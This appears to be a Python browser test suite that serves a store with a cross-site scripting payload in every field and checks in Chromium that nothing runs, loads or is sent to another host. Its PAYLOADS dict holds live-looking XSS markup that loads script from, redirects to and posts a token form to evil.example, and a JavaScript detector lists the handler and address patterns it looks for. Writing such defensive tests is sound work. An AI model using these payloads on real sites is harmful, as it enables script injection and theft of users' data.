"""A store whose every field is an attack, in Chromium: nothing of it runs, nothing of it is asked for, nothing of it becomes a part of the page."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlsplit

import pytest
from served import hostile, records_of, store_at
from stored import coded

from .chrome import Browser, chrome
from .conftest import serving

OUT_OF = "\"'></title></textarea></script></style></svg>--></bdi></a>"
"""What leaves the places in a page where a text may stand."""
PAYLOADS = {
    "markup": OUT_OF + "<script>window.ran = 1; alert(1)</script><script src=//evil.example/a.js></script>"
    '<img src=x onerror="window.ran = 1; alert(1)"><svg onload="window.ran = 1"><body onload=alert(1)>'
    '<base href="http://evil.example/"><meta http-equiv=refresh content="0;url=http://evil.example/"><style>@import "http://evil.example/a.css";</style>'
    '<iframe src="http://evil.example/"></iframe><form action="http://evil.example/"><input name=token></form>'
    '<link rel=stylesheet href=http://evil.example/b.css>" onmouseover="window.ran = 1" autofocus onfocus="alert(1)"',
    "words": "javascript:window.ran=1//'+alert(1)+'${alert(1)}{{alert(1)}}\u202eevil\u202c\u2066\u200b\u200d\ufeff\u2028alert(1)\u2029",
}
_FOREIGN = """
const out = [];
for (const e of document.querySelectorAll("*")) {
  for (const a of e.attributes) {
    if (/^on/i.test(a.name)) out.push(`${e.tagName} ${a.name}`);
    const address = /^(href|src|action|formaction|data|xlink:href)$/i.test(a.name);
    if (address && /^\\s*(javascript|data|vbscript):/i.test(a.value)) out.push(`${e.tagName} ${a.value}`);
  }
}
for (const e of document.querySelectorAll("script, link, img, iframe, base, form, object, embed, style, meta[http-equiv]")) {
  const at = e.src || e.href || e.action || "";
  if (!at.startsWith(location.origin + "/")) out.push(e.outerHTML.slice(0, 100));
}
return out;
"""
"""Finds handlers, addresses that run, and elements that load or send to elsewhere."""


@pytest.fixture(scope="module", params=PAYLOADS)
def attacked(request: pytest.FixtureRequest, here: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, list[str], str]]:
    """Serve a store with one attack in every field; yields the address, the paths of its pages, and the attack."""
    attack = PAYLOADS[request.param]
    path: Path = tmp_path_factory.mktemp("attacked") / "news.db"
    with store_at(path, [hostile(attack, "r1"), coded("r2")]) as opened:
        told = quote(attack, safe="")
        asked = [f"/search?q={told[:400]}", f"/events?source={told[:400]}", f"/sql?q=SELECT+'{told}'", f"/nothing/{told}", f"/events?{told[:60]}=1"]
        paths = [p for p in [*records_of(opened), *asked] if p not in ("/api", "/sign-in")]
    with serving(str(path)) as address:
        yield address, paths, attack


@pytest.fixture(scope="module")
def window(here: None, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Browser]:
    with chrome("", tmp_path_factory.mktemp("chromium")) as opened:
        yield opened


def test_an_attack_in_every_field_stays_a_text(attacked: tuple[str, list[str], str], window: Browser) -> None:
    """On every page no script of the store runs, no dialog opens, no handler, address or element of it is there, and no other host is asked."""
    address, paths, _ = attacked
    assert len(paths) > 12
    window.base = address.rstrip("/")
    for path in paths:
        window.open(path)  # an open dialog would fail here
        assert window.run("return window.ran") is None, path
        assert window.run(_FOREIGN) == [], path
        assert window.stopped() == [], path
        assert {urlsplit(a.url).netloc for a in window.asked()} == {urlsplit(address).netloc}, path
        assert [line for line in window.says() if "status of 4" not in line] == [], path
        assert window.path().partition("?")[0] == path.partition("?")[0], path


def test_the_attacks_would_be_seen(attacked: tuple[str, list[str], str], window: Browser) -> None:
    """The same text put into a page as markup is found by this test's eyes: it does not pass because it is blind."""
    address, _, attack = attacked
    window.base = address.rstrip("/")
    window.open("/sign-in")
    window.run("document.querySelector('main').innerHTML = arguments[0]", attack)
    seen = window.run(_FOREIGN) or window.stopped()
    assert bool(seen) == ("<" in attack)


def test_a_text_is_shown_as_it_stands(attacked: tuple[str, list[str], str], window: Browser) -> None:
    """What is stored is what is read, letter by letter."""
    address, _, attack = attacked
    window.base = address.rstrip("/")
    window.open("/reports/r1")
    assert attack in window.run("return document.querySelector('.text').textContent")
